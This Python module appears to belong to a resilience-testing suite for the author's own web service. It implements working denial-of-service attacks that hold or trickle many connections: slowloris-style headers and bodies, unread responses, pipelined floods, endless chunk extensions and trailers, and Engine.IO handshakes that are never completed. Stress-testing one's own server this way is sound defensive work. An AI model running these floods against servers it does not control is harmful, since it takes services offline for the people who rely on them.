"""Attacks with connections: idle, slow, unread, pipelined, endless, and Engine.IO without CONNECT."""

import contextlib
import itertools
import socket
import time
from collections.abc import Callable

from attacks.wire import (
    LARGE_FRAMES,
    SMALL_FRAMES,
    Target,
    again_and_again,
    answer_to,
    close_all,
    raise_file_limit,
    request,
)

IDLE = 1_100
SLOW = 200
UNREAD = 30
HANDSHAKES = 1_500


def idle_connections(target: Target) -> None:
    held = _open(target, IDLE, target.connect)
    target.hold()
    close_all(held)


def slow_heads(target: Target) -> None:
    held = _open(target, SLOW, target.connect)
    _trickle(target, held, b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")


def slow_bodies(target: Target) -> None:
    held = _open(target, SLOW, target.connect)
    path = f"/api/events/{target.departments['small']}"
    headers = (("Content-Type", "application/json"), ("Content-Length", "100000"))
    _trickle(target, held, request("POST", path, *headers) + b'{"title": "')


def unread_answers(target: Target) -> None:
    """Ask for a list of megabytes on many connections, and read none of it."""
    held = _open(target, UNREAD, lambda: target.connect(receive_buffer=4_096))
    for tcp in held:
        tcp.sendall(request("GET", f"/api/events/{target.departments['large']}"))
    target.hold()
    close_all(held)


def pipelined_requests(target: Target) -> None:
    """Send requests on one connection without waiting for answers, which are read."""

    def attack() -> None:
        with target.connect() as tcp:
            target.flood(tcp, again_and_again(request("GET", "/healthz")), SMALL_FRAMES)

    target.persist(attack)


def chunks_of_one_byte(target: Target) -> None:
    """Send a body of JSON in the smallest chunks, as large as the server takes it."""
    _send_chunked(target, b"1\r\na\r\n", SMALL_FRAMES)


def endless_chunk_extension(target: Target) -> None:
    """Send a chunk whose first line, which holds its size, never ends."""
    _send_chunked(target, b"a" * 1_000, LARGE_FRAMES, beginning=b"1;")


def endless_trailer(target: Target) -> None:
    """Send header lines after the last chunk without end."""
    _send_chunked(target, b"x: a\r\n", LARGE_FRAMES, beginning=b"0\r\n")


def bodies_that_nobody_reads(target: Target) -> None:
    """Send gigabytes as the body of a request that has none."""

    def attack() -> None:
        with target.connect() as tcp:
            tcp.sendall(request("GET", "/healthz", ("Content-Length", "99000000000")))
            target.flood(tcp, again_and_again(b"a" * 1_000), 10 * LARGE_FRAMES)

    target.persist(attack)


def handshakes_by_websocket(target: Target) -> None:
    """Open WebSockets that never send CONNECT."""
    held = _open(target, HANDSHAKES, lambda: target.websocket(joins=False))
    target.hold()
    close_all(held)


def handshakes_by_polling(target: Target) -> None:
    """Begin sessions of polling without end, one after the other, and go on with none."""

    def attack() -> None:
        with target.connect() as tcp:
            while target.remaining_s:
                tcp.sendall(request("GET", "/socket.io/?EIO=4&transport=polling"))
                answer_to(tcp)

    target.persist(attack)


def _send_chunked(target: Target, part: bytes, bytes_per_s: int, beginning: bytes = b"") -> None:
    path = f"/api/events/{target.departments['small']}"
    headers = (("Content-Type", "application/json"), ("Transfer-Encoding", "chunked"))

    def attack() -> None:
        with target.connect() as tcp:
            tcp.sendall(request("POST", path, *headers) + beginning)
            target.flood(tcp, again_and_again(part), bytes_per_s)

    target.persist(attack)


def _open(target: Target, count: int, connect: Callable[[], socket.socket]) -> list[socket.socket]:
    """Open connections until there are enough, or the attack ends."""
    raise_file_limit()
    held: list[socket.socket] = []
    while len(held) < count and target.remaining_s:
        with contextlib.suppress(OSError):  # refused, or not answered in time
            held.append(connect())
    return held


def _trickle(target: Target, held: list[socket.socket], beginning: bytes) -> None:
    """Send the beginning of a request on each connection, then a byte a second."""
    for part in itertools.chain([beginning], itertools.repeat(b"a")):
        for tcp in held:
            with contextlib.suppress(OSError):  # the server has closed it
                tcp.sendall(part)
        if not target.remaining_s:
            break
        time.sleep(min(1.0, target.remaining_s))
    close_all(held)
